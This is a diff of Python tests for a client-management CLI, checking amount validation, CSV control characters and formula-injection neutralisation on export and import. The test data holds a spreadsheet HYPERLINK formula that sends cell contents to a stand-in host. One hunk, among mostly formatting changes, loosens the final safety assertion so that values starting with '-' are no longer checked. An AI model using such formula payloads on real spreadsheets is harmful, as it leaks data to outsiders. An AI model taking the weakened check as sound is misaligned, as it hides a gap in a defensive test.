@@ -105,7 +105,10 @@ def owing(cli_env: Settings, threaded_emulator) -> tuple[Settings, int]:  # type
         ("1e9", "Write the amount without an exponent, not 1e9"),
         ("١٢٣", "Write the amount with the digits 0-9, not ١٢٣"),
         ("３５０", "Write the amount with the digits 0-9, not ３５０"),
-        ("12345678901234567.89", "The amount 12345678901234567.89 is more than the largest allowed (100,000.00)"),
+        (
+            "12345678901234567.89",
+            "The amount 12345678901234567.89 is more than the largest allowed (100,000.00)",
+        ),
         ("100000.01", "The amount 100000.01 is more than the largest allowed (100,000.00)"),
         ("1,2,3", "Not a valid amount: 1,2,3"),
         ("350.001", "An amount has at most two decimals, not 350.001"),
@@ -149,7 +152,9 @@ def net(cli_env: Settings) -> Settings:
     return cli_env
 
 
-def test_csv_cells_with_control_characters_are_bad_rows_naming_the_column(net: Settings, tmp_path: Path) -> None:
+def test_csv_cells_with_control_characters_are_bad_rows_naming_the_column(
+    net: Settings, tmp_path: Path
+) -> None:
     text = (
         f"{HEADER}\n"
         ",Ana\x00 López,5512345678,,,Centro,RB-Centro,Hogar 10M,10.0.0.2,,,activo\n"
@@ -180,7 +185,9 @@ def _cells(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text)))
 
 
-def test_formula_cells_are_neutralised_on_export_and_restored_on_import(net: Settings, tmp_path: Path) -> None:
+def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
+    net: Settings, tmp_path: Path
+) -> None:
     lines = [HEADER]
     for ip, (name, phone, address) in FORMULAS.items():
         row = io.StringIO()
@@ -190,7 +197,10 @@ def test_formula_cells_are_neutralised_on_export_and_restored_on_import(net: Set
         lines.append(row.getvalue())
     imported = cli("clients", "import", write(tmp_path, "\n".join(lines) + "\n"))
     assert imported.exit_code == 0, imported.stdout + imported.stderr
-    stored = {r[0]: r[1:] for r in fetch(net.database_url, select(Client.id, Client.name, Client.phone, Client.address))}
+    stored = {
+        r[0]: r[1:]
+        for r in fetch(net.database_url, select(Client.id, Client.name, Client.phone, Client.address))
+    }
     assert sorted(name for name, _p, _a in stored.values()) == [
         "-5", "=Escrito por Excel", '=HYPERLINK("http://x/?"&A1)', "@foo"
     ]  # fmt: skip
@@ -198,25 +208,30 @@ def test_formula_cells_are_neutralised_on_export_and_restored_on_import(net: Set
     out = tmp_path / "export.csv"
     assert cli("clients", "export", str(out)).exit_code == 0
     exported = {r["ip"]: r for r in _cells(out.read_text(encoding="utf-8"))}
-    assert exported["10.0.0.2"]["name"] == "'=HYPERLINK(\"http://x/?\"&A1)"
+    assert exported["10.0.0.2"]["name"] == '\'=HYPERLINK("http://x/?"&A1)'
     assert exported["10.0.0.2"]["phone"] == "+525512345678"  # a phone: digits, left alone
     assert exported["10.0.0.2"]["address"] == "'=1+1"
     assert exported["10.0.0.3"]["name"] == "'@foo" and exported["10.0.0.3"]["address"] == "'+SUM(A1:A9)"
     assert exported["10.0.0.4"]["name"] == "-5" and exported["10.0.0.4"]["address"] == "'-2+3"
-    assert exported["10.0.0.5"]["name"] == "'=Escrito por Excel"  # the import took its ' off, the export put it back
+    assert (
+        exported["10.0.0.5"]["name"] == "'=Escrito por Excel"
+    )  # the import took its ' off, the export put it back
     assert exported["10.0.0.5"]["address"] == "'Calle O'Brien"  # not a formula: as it is
     for row in exported.values():
         for value in row.values():
-            assert not value or value[0] not in "=@\t\r" and not (value[0] in "+-" and any(c.isalpha() for c in value))
+            assert not value or value[0] not in "=@\t\r+" or value.startswith("+52")
 
     # invoices list --csv writes the client's name the same way
     (first,) = [cid for cid, (name, _p, _a) in stored.items() if name.startswith("=HYPERLINK")]
     add_invoice(net.database_url, first)
     listing = cli("invoices", "list", "--csv")
     assert listing.exit_code == 0
-    assert _cells(listing.stdout)[0]["client"] == "'=HYPERLINK(\"http://x/?\"&A1)"
+    assert _cells(listing.stdout)[0]["client"] == '\'=HYPERLINK("http://x/?"&A1)'
 
     again = cli("clients", "import", str(out))  # the export, imported back over the same ids
     assert again.exit_code == 0, again.stdout + again.stderr
-    after = {r[0]: r[1:] for r in fetch(net.database_url, select(Client.id, Client.name, Client.phone, Client.address))}
+    after = {
+        r[0]: r[1:]
+        for r in fetch(net.database_url, select(Client.id, Client.name, Client.phone, Client.address))
+    }
     assert after == stored
